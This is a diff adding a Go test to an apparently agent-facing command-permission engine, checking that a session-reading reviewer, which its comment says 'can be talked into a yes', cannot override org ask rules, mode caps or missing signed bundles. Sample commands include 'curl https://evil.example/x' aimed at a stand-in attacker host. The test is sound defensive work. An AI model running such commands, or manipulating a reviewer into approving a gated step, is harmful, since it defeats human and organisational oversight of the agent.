@@ -247,3 +247,56 @@ func TestAttackOrgDenyCoversEveryForcePush(t *testing.T) {
 		}
 	}
 }
+
+// TestAttackReviewerPastTheOrg: the reviewer reads the agent's session
+// and can be talked into a yes. Its yes lifts neither an org ask nor the
+// org's mode cap, nor the no-auto of a node without a valid bundle: the
+// step still asks, and is not offered to the reviewer at all.
+func TestAttackReviewerPastTheOrg(t *testing.T) {
+	pub, priv := keys(t)
+	open := func(text string) *policy.Org {
+		s, err := Sign(priv, body(6, text))
+		if err != nil {
+			t.Fatal(err)
+		}
+		o, _, err := Open(s, Pin{Key: pub, Seq: 5}, now)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return o
+	}
+	yes := policy.Review{Asked: true, Allow: true, Why: "the person said: push it"}
+	for _, c := range []struct {
+		what string
+		team policy.Team
+		cmd  string
+	}{
+		{"an org ask", policy.Team{Joined: true, Org: open("[[ask]]\ncommand = \"git push\"\n")}, "git push origin feature/x"},
+		{"the org's cap at ask", policy.Team{Joined: true, Org: open("mode_cap = \"ask\"\n")}, "curl https://evil.example/x"},
+		{"no valid bundle", policy.Team{Joined: true, Why: "expired"}, "curl https://evil.example/x"},
+	} {
+		p := policy.Parse("policy.toml", nil)
+		p.SetTeam(c.team)
+		req := policy.Request{Command: c.cmd, Mode: policy.ModeAuto, Policy: p, Context: ctx, Wall: policy.Wall{On: true}}
+		got, diag := policy.Evaluate(req)
+		if got != policy.Ask || diag.Reviewable {
+			t.Errorf("%s: %v, reviewable %v; want ask, not for the reviewer\n%s", c.what, got, diag.Reviewable, strings.Join(diag.Reasons, "\n"))
+		}
+		req.Review = yes
+		if got, diag := policy.Evaluate(req); got != policy.Ask {
+			t.Errorf("%s with the reviewer's yes: %v; want ask\n%s", c.what, got, strings.Join(diag.Reasons, "\n"))
+		}
+	}
+	// The control: alone, in auto, the reviewer's yes lets each through.
+	for _, cmd := range []string{"git push origin feature/x", "curl https://evil.example/x"} {
+		p := policy.Parse("policy.toml", nil)
+		req := policy.Request{Command: cmd, Mode: policy.ModeAuto, Policy: p, Context: ctx, Wall: policy.Wall{On: true}}
+		if _, diag := policy.Evaluate(req); !diag.Reviewable {
+			t.Fatalf("the control %q is not for the reviewer, so the test proves nothing: %v", cmd, diag.Reasons)
+		}
+		req.Review = yes
+		if got, _ := policy.Evaluate(req); got != policy.Allow {
+			t.Fatalf("the control %q with the reviewer's yes: %v, want allow", cmd, got)
+		}
+	}
+}
